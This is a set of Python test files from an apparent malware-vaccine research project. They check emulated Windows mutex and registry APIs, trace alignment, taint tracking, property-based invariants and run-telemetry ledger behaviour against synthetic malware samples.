        """A resumed run's trace contains the shared prefix events too —
        alignment consumes it exactly like a full rerun's trace."""
        program = family_programs["conficker"]
        report, candidates = self._candidates(program)
        fast = ImpactAnalyzer(snapshot_resume=True).analyze_candidates(
            program, candidates, report.trace
        )
        legacy = ImpactAnalyzer(snapshot_resume=False).analyze_candidates(
            program, candidates, report.trace
        )
        for f, l in zip(fast, legacy):
            assert [e.context_key() for e in f.mutated_run.trace.api_calls] == [
                e.context_key() for e in l.mutated_run.trace.api_calls
            ]
            assert [e.event_id for e in f.mutated_run.trace.api_calls] == [
                e.event_id for e in l.mutated_run.trace.api_calls
            ]

    def test_no_candidates_short_circuits(self, family_programs):
        program = family_programs["conficker"]
        report, _ = self._candidates(program)
        assert ImpactAnalyzer().analyze_candidates(program, [], report.trace) == []
