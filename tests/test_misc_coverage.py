"""Final breadth pass: smaller paths not covered elsewhere."""

import pytest

from repro.core import Immunization, Mechanism, select_candidates
from repro.core.impact import ResourceMutation
from repro.corpus import build_family
from repro.winenv import IntegrityLevel, ResourceType, SystemEnvironment

MED = IntegrityLevel.MEDIUM


class TestResourceMutationMatching:
    def _candidate(self):
        from repro.core.candidate import CandidateResource

        return CandidateResource(resource_type=ResourceType.MUTEX, identifier="M")

    def _event(self, rtype=ResourceType.MUTEX, ident="M"):
        from repro.tracing import ApiCallEvent

        return ApiCallEvent(event_id=1, seq=0, api="OpenMutexA", caller_pc=0,
                            args=(), resource_type=rtype, identifier=ident)

    def test_matches_same_resource(self):
        mutation = ResourceMutation(self._candidate(), Mechanism.ENFORCE_FAILURE)
        assert mutation.matches(self._event())

    def test_ignores_other_type(self):
        mutation = ResourceMutation(self._candidate(), Mechanism.ENFORCE_FAILURE)
        assert not mutation.matches(self._event(rtype=ResourceType.FILE))

    def test_ignores_none_identifier(self):
        mutation = ResourceMutation(self._candidate(), Mechanism.ENFORCE_FAILURE)
        assert not mutation.matches(self._event(ident=None))

    def test_hit_counter(self, run_asm):
        from repro.core.candidate import CandidateResource

        cand = CandidateResource(resource_type=ResourceType.MUTEX, identifier="HitMe")
        mutation = ResourceMutation(cand, Mechanism.ENFORCE_FAILURE)
        run_asm('.section .rdata\nm: .asciz "HitMe"\n.section .text\n'
                "    push m\n    push 0\n    push 0\n    call @CreateMutexA\n    halt\n",
                interceptors=[mutation])
        assert mutation.hits == 1


class TestNetworkVaccineAtEnvironmentLevel:
    def test_blackhole_silences_beacons(self):
        from repro.core import run_sample

        env = SystemEnvironment()
        env.network.blackhole = True
        run = run_sample(build_family("zeus"), environment=env,
                         record_instructions=False)
        assert run.environment.network.bytes_sent_by(run.cpu.process.pid) == 0


class TestSystemInfoApis:
    def test_get_command_line_points_at_image_path(self, run_asm):
        cpu = run_asm("    call @GetCommandLineA\n    mov esi, eax\n    halt\n")
        text, _ = cpu.memory.read_cstring(cpu.regs["esi"])
        assert text.endswith("test.exe")

    def test_get_module_file_name(self, run_asm):
        cpu = run_asm(".section .data\nb: .space 64\n.section .text\n"
                      "    push 64\n    push b\n    push 0\n"
                      "    call @GetModuleFileNameA\n    halt\n")
        text, _ = cpu.memory.read_cstring(cpu.program.labels["b"])
        assert text.endswith("test.exe")

    def test_get_version_encodes_xp(self, run_asm):
        cpu = run_asm("    call @GetVersion\n    halt\n")
        assert cpu.regs["eax"] & 0xFF == 5  # major 5 (XP era)

    def test_system_directories(self, run_asm):
        cpu = run_asm(".section .data\nb: .space 64\nc: .space 64\n.section .text\n"
                      "    push 64\n    push b\n    call @GetSystemDirectoryA\n"
                      "    push 64\n    push c\n    call @GetWindowsDirectoryA\n    halt\n")
        sysdir, _ = cpu.memory.read_cstring(cpu.program.labels["b"])
        windir, _ = cpu.memory.read_cstring(cpu.program.labels["c"])
        assert sysdir == "c:\\windows\\system32" and windir == "c:\\windows"


class TestVariantBehaviouralDiversity:
    @pytest.mark.parametrize("family", ["zeus", "poisonivy", "sality"])
    def test_variants_share_category_but_differ_in_source(self, family):
        base = build_family(family, variant=0)
        v4 = build_family(family, variant=4)
        assert base.metadata["category"] == v4.metadata["category"]
        assert base.source != v4.source

    def test_poisonivy_v4_uses_renamed_mutex(self):
        report = select_candidates(build_family("poisonivy", variant=4))
        assert report.candidate(ResourceType.MUTEX, ")!VoqA.I4") is None
        assert report.candidate(ResourceType.MUTEX, "K^DJA!#4") is not None


class TestImmunizationTaxonomy:
    def test_partial_flag(self):
        assert Immunization.TYPE_II_NETWORK.is_partial
        assert not Immunization.FULL.is_partial
        assert not Immunization.NONE.is_partial

    def test_all_paper_types_present(self):
        values = {i.value for i in Immunization}
        assert {"full", "disable_kernel_injection", "disable_massive_network",
                "disable_persistence", "disable_process_injection", "none"} == values


class TestExclusivenessBookkeeping:
    def test_hits_counted(self):
        from repro.core.candidate import CandidateResource
        from repro.core.exclusiveness import ExclusivenessAnalyzer

        analyzer = ExclusivenessAnalyzer()
        decision = analyzer.check(CandidateResource(
            resource_type=ResourceType.MUTEX, identifier="BrowserSingletonMtx"))
        assert not decision.exclusive and decision.hits >= 1

    def test_query_counter_increments(self):
        from repro.core.candidate import CandidateResource
        from repro.core.exclusiveness import ExclusivenessAnalyzer

        analyzer = ExclusivenessAnalyzer()
        before = analyzer.search.query_count
        analyzer.check(CandidateResource(
            resource_type=ResourceType.MUTEX, identifier="zq_unique_thing"))
        assert analyzer.search.query_count > before


class TestPackageDeployEdge:
    def test_empty_package_deploys_cleanly(self):
        from repro.delivery import VaccinePackage, deploy

        deployment = deploy(VaccinePackage(), SystemEnvironment())
        assert not deployment.injections and deployment.daemon is None
        assert not deployment.daemon_needed
