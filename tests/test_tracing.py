"""Trace container and event tests."""

import pytest

from repro.tracing import ApiCallEvent, Trace
from repro.winenv import Operation, ResourceType


def ev(api, seq=0, pc=0x401000, rtype=None, op=None, ident=None, success=True):
    return ApiCallEvent(
        event_id=seq + 1, seq=seq, api=api, caller_pc=pc, args=(),
        resource_type=rtype, operation=op, identifier=ident, success=success,
    )


class TestTrace:
    def test_event_ids_monotonic(self):
        trace = Trace()
        assert trace.next_event_id() == 1
        assert trace.next_event_id() == 2

    def test_resource_events_filtering(self):
        trace = Trace(api_calls=[
            ev("GetTickCount", 0),
            ev("OpenMutexA", 1, rtype=ResourceType.MUTEX, op=Operation.CHECK, ident="m"),
        ])
        assert [e.api for e in trace.resource_events()] == ["OpenMutexA"]

    def test_event_by_id(self):
        trace = Trace(api_calls=[ev("A", 0), ev("B", 1)])
        assert trace.event_by_id(2).api == "B"
        assert trace.event_by_id(99) is None

    def test_called_any(self):
        trace = Trace(api_calls=[ev("ExitProcess", 0)])
        assert trace.called_any({"exitprocess"})
        assert not trace.called_any({"CreateFileA"})

    def test_count_by_resource_operation(self):
        trace = Trace(api_calls=[
            ev("OpenMutexA", 0, rtype=ResourceType.MUTEX, op=Operation.CHECK, ident="m"),
            ev("CreateMutexA", 1, rtype=ResourceType.MUTEX, op=Operation.CREATE, ident="m"),
            ev("CreateMutexA", 2, rtype=ResourceType.MUTEX, op=Operation.CREATE, ident="m2"),
        ])
        stats = trace.count_by_resource_operation()
        assert stats[ResourceType.MUTEX][Operation.CREATE] == 2
        assert stats[ResourceType.MUTEX][Operation.CHECK] == 1

    def test_terminated_property(self):
        trace = Trace()
        trace.exit_status = "terminated"
        assert trace.terminated

    def test_summary_readable(self):
        trace = Trace(program_name="x")
        assert "x" in trace.summary()


class TestContextKey:
    def test_key_includes_identifier(self):
        a = ev("CreateFileA", ident="c:\\a")
        b = ev("CreateFileA", ident="c:\\b")
        assert a.context_key() != b.context_key()

    def test_key_without_static_args(self):
        a = ev("CreateFileA", ident="c:\\a")
        b = ev("CreateFileA", ident="c:\\b")
        assert a.context_key(static_args=False) == b.context_key(static_args=False)

    def test_is_resource_access(self):
        assert ev("X", rtype=ResourceType.FILE).is_resource_access
        assert not ev("X").is_resource_access
