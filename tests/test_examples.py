"""The shipped examples must keep running end to end (they assert their own
claims internally)."""

import importlib.util
import sys
from pathlib import Path

import pytest

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"


def _load(name: str):
    spec = importlib.util.spec_from_file_location(f"example_{name}", EXAMPLES / f"{name}.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@pytest.mark.parametrize("name", [
    "quickstart",
    "conficker_fleet",
    "daemon_and_clinic",
    "targeted_defense",
])
def test_example_runs(name, capsys):
    module = _load(name)
    module.main()
    out = capsys.readouterr().out
    assert out.strip()


def test_population_survey_small(monkeypatch, capsys):
    monkeypatch.setenv("REPRO_POPULATION", "20")
    module = _load("population_survey")
    module.main()
    out = capsys.readouterr().out
    assert "Table-IV style" in out


def test_outbreak_campaign(capsys):
    module = _load("outbreak_campaign")
    module.main()
    out = capsys.readouterr().out
    assert "the use case holds" in out
