"""Mutex and registry API tests (Table I encodings)."""

import pytest

from repro.winenv import IntegrityLevel, Win32Error

MED = IntegrityLevel.MEDIUM


class TestMutexApis:
    OPEN = (
        '.section .rdata\nm: .asciz "MyMtx"\n.section .text\n'
        "    push m\n    push 0\n    push 0x1F0001\n    call @OpenMutexA\n    halt\n"
    )

    def test_open_missing_returns_null_error_0x02(self, run_asm):
        """Paper Table I: OpenMutex failure = EAX NULL, GetLastError 0x02."""
        cpu = run_asm(self.OPEN)
        assert cpu.regs["eax"] == 0
        assert cpu.process.last_error == 0x02

    def test_open_existing_returns_valid_handle(self, run_asm, env):
        env.mutexes.create("MyMtx", MED)
        cpu = run_asm(self.OPEN)
        assert cpu.regs["eax"] >= 0x100
        assert cpu.process.last_error == 0

    def test_create_sets_already_exists(self, run_asm, env):
        env.mutexes.create("M2", MED)
        cpu = run_asm(
            '.section .rdata\nm: .asciz "M2"\n.section .text\n'
            "    push m\n    push 0\n    push 0\n    call @CreateMutexA\n    halt\n"
        )
        assert cpu.regs["eax"] >= 0x100
        assert cpu.process.last_error == int(Win32Error.ALREADY_EXISTS)

    def test_create_fresh_registers_in_namespace(self, run_asm, env):
        run_asm(
            '.section .rdata\nm: .asciz "Fresh"\n.section .text\n'
            "    push m\n    push 0\n    push 0\n    call @CreateMutexA\n    halt\n"
        )
        assert env.mutexes.exists("Fresh")

    def test_anonymous_mutex_rejected(self, run_asm):
        cpu = run_asm("    push 0\n    push 0\n    push 0\n    call @CreateMutexA\n    halt\n")
        assert cpu.regs["eax"] == 0

    def test_events_carry_no_resource_label(self, run_asm):
        cpu = run_asm("    push 0\n    push 0\n    push 0\n    push 0\n"
                      "    call @CreateEventA\n    halt\n")
        event = cpu.trace.api_calls[0]
        assert event.resource_type is None
        assert not cpu.reg_taint["eax"]


class TestRegistryApis:
    OPEN_RUN = (
        '.section .rdata\nk: .asciz "software\\\\microsoft\\\\windows\\\\currentversion\\\\run"\n'
        ".section .data\nh: .dword 0\n.section .text\n"
        "    push h\n    push 0xF003F\n    push 0\n    push k\n    push 0x80000002\n"
        "    call @RegOpenKeyExA\n    halt\n"
    )

    def test_open_existing_key(self, run_asm):
        cpu = run_asm(self.OPEN_RUN)
        assert cpu.regs["eax"] == 0  # ERROR_SUCCESS

    def test_open_resolves_full_path_identifier(self, run_asm):
        cpu = run_asm(self.OPEN_RUN)
        event = cpu.trace.api_calls[0]
        assert event.identifier == "hklm\\software\\microsoft\\windows\\currentversion\\run"

    def test_open_missing_returns_error_code(self, run_asm):
        cpu = run_asm(
            '.section .rdata\nk: .asciz "software\\\\nothere"\n'
            ".section .data\nh: .dword 0\n.section .text\n"
            "    push h\n    push 0xF003F\n    push 0\n    push k\n    push 0x80000002\n"
            "    call @RegOpenKeyExA\n    halt\n"
        )
        assert cpu.regs["eax"] == int(Win32Error.FILE_NOT_FOUND)

    def test_set_and_query_value(self, run_asm, env):
        run_asm(
            '.section .rdata\nk: .asciz "software\\\\acme"\nv: .asciz "marker"\nd: .asciz "on"\n'
            ".section .data\nh: .dword 0\n.section .text\n"
            "    push h\n    push 0xF003F\n    push 0\n    push k\n    push 0x80000002\n"
            "    call @RegCreateKeyExA\n"
            "    push 3\n    push d\n    push 1\n    push 0\n    push v\n    push [h]\n"
            "    call @RegSetValueExA\n    halt\n"
        )
        assert env.registry.query_value("hklm\\software\\acme", "marker", MED) == "on"

    def test_query_value_taints_buffer(self, run_asm, env):
        env.registry.create_key("hklm\\software\\c2", MED)
        env.registry.set_value("hklm\\software\\c2", "srv", "evil.biz", MED)
        cpu = run_asm(
            '.section .rdata\nk: .asciz "software\\\\c2"\nv: .asciz "srv"\n'
            ".section .data\nh: .dword 0\nbuf: .space 32\nsz: .space 4\n.section .text\n"
            "    push h\n    push 0xF003F\n    push 0\n    push k\n    push 0x80000002\n"
            "    call @RegOpenKeyExA\n"
            "    push sz\n    push buf\n    push 0\n    push 0\n    push v\n    push [h]\n"
            "    call @RegQueryValueExA\n    halt\n"
        )
        text, taints = cpu.memory.read_cstring(cpu.program.labels["buf"])
        assert text == "evil.biz" and all(taints)

    def test_delete_key(self, run_asm, env):
        env.registry.create_key("hklm\\software\\dele", MED)
        cpu = run_asm(
            '.section .rdata\nk: .asciz "software\\\\dele"\n.section .text\n'
            "    push k\n    push 0x80000002\n    call @RegDeleteKeyA\n    halt\n"
        )
        assert cpu.regs["eax"] == 0
        assert not env.registry.exists("hklm\\software\\dele")

    def test_hkcu_hive_pseudo_handle(self, run_asm, env):
        run_asm(
            '.section .rdata\nk: .asciz "software\\\\user"\n'
            ".section .data\nh: .dword 0\n.section .text\n"
            "    push h\n    push 0xF003F\n    push 0\n    push k\n    push 0x80000001\n"
            "    call @RegCreateKeyExA\n    halt\n"
        )
        assert env.registry.exists("hkcu\\software\\user")

    def test_nested_key_handles_resolve_relative_paths(self, run_asm, env):
        env.registry.create_key("hklm\\software\\parent", MED)
        env.registry.create_key("hklm\\software\\parent\\child", MED)
        cpu = run_asm(
            '.section .rdata\np: .asciz "software\\\\parent"\nc: .asciz "child"\n'
            ".section .data\nh1: .dword 0\nh2: .dword 0\n.section .text\n"
            "    push h1\n    push 0xF003F\n    push 0\n    push p\n    push 0x80000002\n"
            "    call @RegOpenKeyExA\n"
            "    push h2\n    push 0xF003F\n    push 0\n    push c\n    push [h1]\n"
            "    call @RegOpenKeyExA\n    halt\n"
        )
        second = cpu.trace.events_for_api("RegOpenKeyExA")[1]
        assert second.identifier == "hklm\\software\\parent\\child"

    def test_nt_open_key_out_handle(self, run_asm, env):
        env.registry.create_key("hklm\\software\\nt", MED)
        cpu = run_asm(
            '.section .rdata\nk: .asciz "hklm\\\\software\\\\nt"\n'
            ".section .data\nh: .dword 0\n.section .text\n"
            "    push k\n    push 0xF003F\n    push h\n    call @NtOpenKey\n    halt\n"
        )
        assert cpu.regs["eax"] == 0
        handle_value, _ = cpu.memory.read_u32(cpu.program.labels["h"])
        assert handle_value >= 0x100

    def test_nt_open_key_missing_returns_nt_status(self, run_asm):
        cpu = run_asm(
            '.section .rdata\nk: .asciz "hklm\\\\software\\\\missing"\n'
            ".section .data\nh: .dword 0\n.section .text\n"
            "    push k\n    push 0xF003F\n    push h\n    call @NtOpenKey\n    halt\n"
        )
        assert cpu.regs["eax"] == 0xC0000034  # STATUS_OBJECT_NAME_NOT_FOUND
