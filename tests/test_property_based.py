"""Property-based tests (hypothesis) on core data structures and invariants."""

from __future__ import annotations

import re

from hypothesis import given, settings, strategies as st

from repro.analysis import align_lcs, align_linear
from repro.core.determinism import build_pattern
from repro.core.vaccine import normalize_identifier
from repro.taint.labels import EMPTY, TaintClass, TaintTag, union
from repro.tracing import ApiCallEvent
from repro.vm import Memory, assemble, mask32, to_signed
from repro.vm.memory import HEAP_BASE
from repro.winenv import ResourceType, normalize_key, normalize_path

# ---------------------------------------------------------------------------
# taint tag algebra
# ---------------------------------------------------------------------------

tags = st.builds(
    TaintTag,
    event_id=st.integers(min_value=1, max_value=50),
    api=st.sampled_from(["OpenMutexA", "GetTickCount", "GetComputerNameA"]),
    klass=st.sampled_from(list(TaintClass)),
)
tagsets = st.frozensets(tags, max_size=5)


class TestTagSetAlgebra:
    @given(tagsets, tagsets)
    def test_union_commutative(self, a, b):
        assert union(a, b) == union(b, a)

    @given(tagsets, tagsets, tagsets)
    def test_union_associative(self, a, b, c):
        assert union(union(a, b), c) == union(a, union(b, c))

    @given(tagsets)
    def test_union_idempotent(self, a):
        assert union(a, a) == a

    @given(tagsets)
    def test_empty_is_identity(self, a):
        assert union(a, EMPTY) == a

    @given(tagsets, tagsets)
    def test_union_is_superset(self, a, b):
        u = union(a, b)
        assert a <= u and b <= u


# ---------------------------------------------------------------------------
# 32-bit arithmetic helpers
# ---------------------------------------------------------------------------

u32 = st.integers(min_value=0, max_value=0xFFFFFFFF)


class TestMask32:
    @given(st.integers())
    def test_mask_in_range(self, v):
        assert 0 <= mask32(v) <= 0xFFFFFFFF

    @given(u32)
    def test_mask_identity_on_u32(self, v):
        assert mask32(v) == v

    @given(u32)
    def test_to_signed_roundtrip(self, v):
        assert mask32(to_signed(v)) == v

    @given(u32, u32)
    def test_addition_modular(self, a, b):
        assert mask32(a + b) == (a + b) % (1 << 32)


# ---------------------------------------------------------------------------
# memory
# ---------------------------------------------------------------------------


class TestMemoryProperties:
    @given(st.binary(min_size=0, max_size=64), st.integers(min_value=0, max_value=0x800))
    def test_write_read_roundtrip(self, data, offset):
        mem = Memory()
        addr = HEAP_BASE + offset
        mem.write_bytes(addr, data)
        assert mem.read_bytes(addr, len(data)) == data

    @given(u32, st.integers(min_value=0, max_value=0x800))
    def test_u32_roundtrip(self, value, offset):
        mem = Memory()
        addr = HEAP_BASE + offset
        mem.write_u32(addr, value)
        got, _ = mem.read_u32(addr)
        assert got == value

    @given(st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), max_size=40))
    def test_cstring_roundtrip(self, text):
        mem = Memory()
        mem.write_cstring(HEAP_BASE, text)
        got, _ = mem.read_cstring(HEAP_BASE)
        assert got == text

    @given(tagsets)
    def test_taint_follows_byte(self, taint):
        mem = Memory()
        mem.write_byte(HEAP_BASE, 0x41, taint)
        _, got = mem.read_byte(HEAP_BASE)
        assert got == taint

    def test_unwritten_mapped_memory_reads_zero(self):
        mem = Memory()
        value, taint = mem.read_u32(HEAP_BASE + 0x500)
        assert value == 0 and taint == EMPTY


# ---------------------------------------------------------------------------
# identifier normalization
# ---------------------------------------------------------------------------

path_chars = st.text(
    alphabet=st.characters(whitelist_categories=("Lu", "Ll", "Nd"), whitelist_characters="._-"),
    min_size=1,
    max_size=12,
)


class TestNormalizationProperties:
    @given(path_chars)
    def test_path_normalization_idempotent(self, name):
        p = f"C:\\Dir\\{name}"
        assert normalize_path(normalize_path(p)) == normalize_path(p)

    @given(path_chars)
    def test_key_normalization_idempotent(self, name):
        k = f"HKLM\\Software\\{name}"
        assert normalize_key(normalize_key(k)) == normalize_key(k)

    @given(path_chars)
    def test_mutex_identifier_untouched(self, name):
        assert normalize_identifier(ResourceType.MUTEX, name) == name

    @given(path_chars)
    def test_file_identifier_lowercased(self, name):
        norm = normalize_identifier(ResourceType.FILE, f"C:\\{name}")
        assert norm == norm.lower()


# ---------------------------------------------------------------------------
# partial-static pattern building
# ---------------------------------------------------------------------------

classes = st.lists(st.sampled_from(["static", "random", "env"]), min_size=1, max_size=24)


class TestPatternProperties:
    @given(classes)
    def test_pattern_matches_own_identifier(self, cls):
        identifier = "".join("abcdefghij"[i % 10] for i in range(len(cls)))
        pattern = build_pattern(identifier, cls)
        if pattern is not None:
            assert re.match(pattern, identifier)

    @given(classes)
    def test_pattern_anchored(self, cls):
        identifier = "x" * len(cls)
        pattern = build_pattern(identifier, cls)
        if pattern is not None:
            assert pattern.startswith("^") and pattern.endswith("$")
            if cls[-1] == "static":
                # A trailing literal cannot absorb a suffix (a trailing
                # wildcard legitimately can).
                assert not re.match(pattern, identifier + "suffix!!")

    @given(st.text(alphabet="ab().*+[", min_size=3, max_size=10))
    def test_static_metacharacters_escaped(self, identifier):
        pattern = build_pattern(identifier, ["static"] * len(identifier))
        assert pattern is not None
        assert re.match(pattern, identifier)
        if "(" in identifier:
            assert not re.match(pattern, identifier.replace("(", ")"))


# ---------------------------------------------------------------------------
# trace alignment
# ---------------------------------------------------------------------------

api_names = st.sampled_from(["A", "B", "C", "D"])
traces = st.lists(api_names, max_size=12)


def _events(names):
    return [
        ApiCallEvent(event_id=i + 1, seq=i, api=name, caller_pc=hash(name) & 0xFFFF, args=())
        for i, name in enumerate(names)
    ]


class TestAlignmentProperties:
    @given(traces)
    def test_self_alignment_identical(self, names):
        events = _events(names)
        for aligner in (align_lcs, align_linear):
            result = aligner(events, _events(names))
            assert result.is_identical

    @given(traces, traces)
    def test_lcs_conservation(self, a, b):
        ea, eb = _events(a), _events(b)
        result = align_lcs(ea, eb)
        assert len(result.delta_mutated) + result.aligned_pairs == len(ea)
        assert len(result.delta_natural) + result.aligned_pairs == len(eb)

    @given(traces, traces)
    def test_lcs_symmetric_delta_sizes(self, a, b):
        r1 = align_lcs(_events(a), _events(b))
        r2 = align_lcs(_events(b), _events(a))
        assert len(r1.delta_mutated) == len(r2.delta_natural)
        assert r1.aligned_pairs == r2.aligned_pairs

    @given(traces)
    def test_empty_vs_trace(self, names):
        events = _events(names)
        result = align_lcs([], events)
        assert len(result.delta_natural) == len(events)


# ---------------------------------------------------------------------------
# assembler round-trips
# ---------------------------------------------------------------------------


class TestAssemblerProperties:
    @given(st.lists(st.sampled_from(
        ["nop", "halt", "mov eax, 1", "add eax, ebx", "push eax", "pop ebx",
         "xor ecx, ecx", "inc edx", "cmp eax, 5"]), min_size=1, max_size=20))
    def test_arbitrary_instruction_sequences_assemble(self, lines):
        src = "main:\n" + "\n".join(f"    {line}" for line in lines) + "\n    halt\n"
        program = assemble(src)
        assert len(program.instructions) == len(lines) + 1

    @given(st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126,
                                          blacklist_characters='"\\'), max_size=20))
    @settings(max_examples=50)
    def test_string_literals_roundtrip_into_image(self, text):
        src = f'.section .rdata\ns: .asciz "{text}"\n.section .text\n    halt\n'
        program = assemble(src)
        assert program.sections[0].image == text.encode("latin-1") + b"\x00"
