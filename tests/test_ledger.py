"""Run-telemetry layer: spool emitter, collector/ledger, tail readers.

The invariants pinned here (DESIGN.md §11): the ledger's terminal events
exactly mirror ``PopulationResult`` — one ``sample.completed`` or
``sample.failed`` per sample, no losses and no duplicates, even under
injected worker crashes and pool deaths; readers tolerate a partial
trailing line from an in-flight (or killed) writer; and a finished run
round-trips through ``repro tail`` / ``repro runs``.
"""

from __future__ import annotations

import json
import os

import pytest

from repro import obs
from repro.cli import main
from repro.core.executor import PipelineConfig, analyze_population
from repro.core.faults import FaultPlan
from repro.corpus import GeneratorConfig, generate_population
from repro.obs import ledger, stream
from repro.obs.ledger import (
    LedgerFold,
    ProgressView,
    RunTelemetry,
    describe_manifest,
    iter_ledger,
    list_runs,
    manifest_status,
    read_ledger,
    read_manifest,
    render_event,
)

SIZE = 8
SEED = 5


@pytest.fixture(scope="module")
def programs():
    return [
        s.program for s in generate_population(GeneratorConfig(size=SIZE, seed=SEED))
    ]


@pytest.fixture(autouse=True)
def _clean_stream():
    yield
    stream.uninstall()


def fast_config(**kw) -> PipelineConfig:
    kw.setdefault("retry_backoff", 0.0)
    return PipelineConfig(**kw)


def terminal_events(events):
    return [e for e in events if e["kind"] in stream.TERMINAL_KINDS]


class TestStreamEmitter:
    def test_off_by_default_and_emit_is_noop(self):
        assert not stream.enabled()
        stream.emit("sample.started", sample="x")  # must not raise

    def test_install_emit_uninstall(self, tmp_path):
        emitter = stream.install(tmp_path)
        assert stream.enabled()
        stream.set_context(index=3, attempt=2)
        stream.emit("sample.started", sample="zeus")
        stream.uninstall()
        assert not stream.enabled()
        lines = emitter.path.read_text().splitlines()
        assert len(lines) == 1
        event = json.loads(lines[0])
        assert event["kind"] == "sample.started"
        assert event["sample"] == "zeus"
        assert event["index"] == 3 and event["attempt"] == 2
        assert event["pid"] == os.getpid()

    def test_install_same_dir_is_idempotent(self, tmp_path):
        first = stream.install(tmp_path)
        assert stream.install(tmp_path) is first

    def test_explicit_attrs_beat_context(self, tmp_path):
        emitter = stream.install(tmp_path)
        stream.set_context(index=1)
        stream.emit("sample.completed", index=7)
        stream.uninstall()
        assert json.loads(emitter.path.read_text())["index"] == 7


class TestPartialLineTolerance:
    def test_tail_while_writing_partial_trailing_line(self, tmp_path):
        path = tmp_path / ledger.LEDGER_NAME
        whole = json.dumps({"t": 1.0, "kind": "sample.started", "sample": "a"})
        partial = '{"t": 2.0, "kind": "sample.comp'
        path.write_text(whole + "\n" + partial)

        events = read_ledger(tmp_path)
        assert [e["kind"] for e in events] == ["sample.started"]

        # The writer finishes the line: a re-read sees both events — the
        # partial tail was never consumed or half-parsed.
        path.write_text(whole + "\n" + partial + 'leted", "sample": "a"}\n')
        events = read_ledger(tmp_path)
        assert [e["kind"] for e in events] == ["sample.started", "sample.completed"]

    def test_collector_skips_malformed_complete_line(self, tmp_path):
        fold = LedgerFold(population=1)
        collector = ledger.Collector(tmp_path, fold)
        spool = tmp_path / ledger.SPOOL_DIR
        spool.mkdir()
        (spool / "events-1.jsonl").write_text(
            json.dumps({"t": 1.0, "kind": "sample.started", "sample": "a"})
            + "\n:::garbage:::\n"
        )
        batch = collector.drain()
        collector.close()
        assert [e["kind"] for e in batch] == ["sample.started"]
        assert fold.malformed == 1

    def test_iter_ledger_follow_stops_when_run_finishes(self, tmp_path, programs):
        analyze_population(programs[:2], config=fast_config(), jobs=1, run_dir=tmp_path)
        events = list(iter_ledger(tmp_path, follow=True, timeout=5.0))
        assert events[0]["kind"] == "run.started"
        assert events[-1]["kind"] == "run.finished"


class TestLedgerRoundTrip:
    def test_survey_writes_ledger_manifest_and_metrics(self, tmp_path, programs):
        result = analyze_population(
            programs, config=fast_config(), jobs=1, run_dir=tmp_path
        )
        events = read_ledger(tmp_path)
        terminals = terminal_events(events)
        assert len(terminals) == SIZE
        assert {e["sample"] for e in terminals} == {p.name for p in programs}
        assert all(e["kind"] == "sample.completed" for e in terminals)
        # every analyzed sample also started and ran its phases
        started = [e for e in events if e["kind"] == "sample.started"]
        assert {e["sample"] for e in started} == {p.name for p in programs}
        assert any(e["kind"] == "sample.phase" for e in events)

        manifest = read_manifest(tmp_path)
        assert manifest["status"] == "finished"
        assert manifest["population"] == SIZE
        assert manifest["config_fingerprint"] == fast_config().fingerprint()
        assert manifest["outcomes"]["completed"] == len(result.succeeded())
        assert manifest["outcomes"]["failed"] == 0

        rows = [
            json.loads(line)
            for line in (tmp_path / ledger.METRICS_NAME).read_text().splitlines()
        ]
        assert rows and rows[-1]["done"] == SIZE

    def test_terminal_order_follows_completion(self, tmp_path, programs):
        # `repro tail` replays terminal events in the order the parent
        # finalized them — the ledger file itself is the order authority.
        analyze_population(programs[:4], config=fast_config(), jobs=1, run_dir=tmp_path)
        terminals = terminal_events(read_ledger(tmp_path))
        assert [e["index"] for e in terminals] == sorted(e["index"] for e in terminals)

    def test_cache_hits_are_terminal_too(self, tmp_path, programs):
        cache = tmp_path / "cache"
        analyze_population(programs[:3], config=fast_config(), jobs=1, cache=cache)
        run_dir = tmp_path / "run"
        result = analyze_population(
            programs[:3], config=fast_config(), jobs=1, cache=cache, run_dir=run_dir
        )
        events = read_ledger(run_dir)
        assert len([e for e in events if e["kind"] == "cache.hit"]) == 3
        terminals = terminal_events(events)
        assert len(terminals) == len(result.succeeded()) == 3
        assert all(e["cached"] for e in terminals)


class TestCollectorUnderFaults:
    def test_no_lost_failed_and_no_duplicate_completed_events(
        self, tmp_path, programs
    ):
        """Worker crash + hard pool death: the ledger's terminal events
        still match ``PopulationResult.succeeded()/failed()`` exactly."""
        plan = FaultPlan.parse("crash:3,abort:5")
        result = analyze_population(
            programs,
            config=fast_config(sample_retries=0),
            jobs=2,
            faults=plan,
            run_dir=tmp_path,
        )
        events = read_ledger(tmp_path)
        completed = [e for e in events if e["kind"] == "sample.completed"]
        failed = [e for e in events if e["kind"] == "sample.failed"]
        assert sorted(e["sample"] for e in completed) == sorted(
            a.program.name for a in result.succeeded()
        )
        assert sorted(e["sample"] for e in failed) == sorted(
            f.sample for f in result.failed()
        )
        # exactly one terminal event per sample — no duplicates
        terminal_samples = [e["sample"] for e in completed + failed]
        assert len(terminal_samples) == len(set(terminal_samples)) == SIZE
        manifest = read_manifest(tmp_path)
        assert manifest["outcomes"]["completed"] == SIZE - 2
        assert manifest["outcomes"]["failed"] == 2

    def test_retry_events_recorded(self, tmp_path, programs):
        plan = FaultPlan.parse("crash:2@1")
        result = analyze_population(
            programs,
            config=fast_config(sample_retries=1),
            jobs=2,
            faults=plan,
            run_dir=tmp_path,
        )
        assert not result.failed()
        events = read_ledger(tmp_path)
        retries = [e for e in events if e["kind"] == "sample.retry"]
        assert len(retries) == 1
        assert retries[0]["sample"] == programs[2].name
        assert len(terminal_events(events)) == SIZE

    def test_jobs_parity_of_terminal_events(self, tmp_path, programs):
        plan = FaultPlan.parse("crash:3,hang:5", hang_seconds=0.0)
        config = fast_config(sample_retries=0)
        seq_dir, par_dir = tmp_path / "seq", tmp_path / "par"
        analyze_population(programs, config=config, jobs=1, faults=plan, run_dir=seq_dir)
        analyze_population(programs, config=config, jobs=2, faults=plan, run_dir=par_dir)

        def terminal_table(run_dir):
            return sorted(
                (e["sample"], e["kind"]) for e in terminal_events(read_ledger(run_dir))
            )

        assert terminal_table(seq_dir) == terminal_table(par_dir)


class TestFold:
    def test_duplicate_terminal_events_counted_once(self):
        fold = LedgerFold(population=2)
        fold.apply({"kind": "sample.completed", "index": 0})
        fold.apply({"kind": "sample.completed", "index": 0})
        fold.apply({"kind": "sample.failed", "index": 1})
        assert fold.completed == 1 and fold.failed == 1
        assert fold.done == 2 and fold.queued == 0

    def test_lifecycle_counts(self):
